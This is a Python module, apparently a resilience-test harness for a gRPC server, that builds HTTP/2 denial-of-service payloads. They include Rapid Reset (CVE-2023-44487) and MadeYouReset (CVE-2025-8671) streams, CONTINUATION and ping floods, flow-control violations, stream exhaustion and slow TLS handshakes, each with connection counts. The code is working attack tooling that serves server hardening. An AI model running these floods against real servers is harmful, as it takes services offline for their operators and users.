"""What strangers say: bytes that cost them little and a careless server much. Pure."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count

from utuple.transport.http2.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    SETTINGS,
    ErrorCode,
    frame,
    rst_stream,
    settings,
    window_update,
)
from utuple.transport.http2.headers import encode

_MESSAGE_BYTES = 16_000
_STATUS = "/utuple.v1.Server/Status"
_DELIVER = "/utuple.v1.Server/Deliver"
GREETING = PREFACE + settings({})
DEAF = PREFACE + settings({INITIAL_WINDOW_SIZE: 0})
"""As who takes no answer: so its calls stay open."""


@dataclass(frozen=True, slots=True)
class Attack:
    says: Callable[[], Iterator[bytes]]
    """On one connection, until it is hung up on."""
    reads: bool = True
    """Else it lets the answers lie."""
    connections: int = 8
    """At a time."""
    pause_s: float = 0.0
    """Between two pieces."""


def call(number: int, method: str = _STATUS) -> bytes:
    block = encode(
        (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", method),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        )
    )
    return frame(HEADERS, END_HEADERS, number, block)


def _numbers() -> Iterator[int]:
    return count(1, 2)


def _window() -> Iterator[bytes]:
    """More than was granted, on a call that cannot end."""
    yield DEAF + call(1) + frame(DATA, 0, 1, bytes(5))
    message = frame(DATA, 0, 1, b"\0" + _MESSAGE_BYTES.to_bytes(4) + bytes(_MESSAGE_BYTES))
    while True:
        yield message * 16


def _again(first: bytes, piece: bytes, times: int = 500) -> Callable[[], Iterator[bytes]]:
    def says() -> Iterator[bytes]:
        yield GREETING + first
        while True:
            yield piece * times

    return says


def _resets() -> Iterator[bytes]:
    """CVE-2023-44487: calls that are made and taken back."""
    yield GREETING
    for number in _numbers():
        yield call(number) + rst_stream(number, ErrorCode.CANCEL)


def _made_resets() -> Iterator[bytes]:
    """CVE-2025-8671: calls that the server itself must reset."""
    yield GREETING
    for number in _numbers():
        yield call(number) + window_update(number, 0)


def _streams() -> Iterator[bytes]:
    """As many calls as there may be, and more, none of which ends."""
    yield GREETING
    for number in _numbers():
        yield call(number, _DELIVER)


def _silence() -> Iterator[bytes]:
    yield GREETING


def _drip() -> Iterator[bytes]:
    """The first words, byte by byte, and never all of them."""
    for byte in PREFACE[:-1]:
        yield bytes((byte,))


def _hello() -> Iterator[bytes]:
    """The head of a TLS record, and nothing after it."""
    yield b"\x16\x03\x01\x02\x00\x01"


def _rubbish() -> Iterator[bytes]:
    yield bytes(range(256)) * 64


ATTACKS: dict[str, Attack] = {
    "window": Attack(_window),
    "pings_unread": Attack(_again(b"", frame(PING, 0, 0, bytes(8))), reads=False),
    "settings_unread": Attack(_again(b"", settings({})), reads=False),
    "setting_answers": Attack(_again(b"", frame(SETTINGS, 1, 0))),
    "resets": Attack(_resets),
    "made_resets": Attack(_made_resets),
    "continuations": Attack(_again(frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1))),
    "empty_data": Attack(_again(call(1, _DELIVER), frame(DATA, 0, 1))),
    "window_updates": Attack(_again(b"", window_update(0, 1))),
    "streams": Attack(_streams, connections=4),
    "connections": Attack(_silence, connections=3000),
    "slow_handshakes": Attack(_drip, connections=500, pause_s=0.5),
    "rubbish": Attack(_rubbish, connections=50),
}
TLS_ATTACKS: dict[str, Attack] = {
    "slow_tls_handshakes": Attack(_hello, connections=500),
    "tls_rubbish": Attack(_rubbish, connections=50),
}
"""At a secured server."""
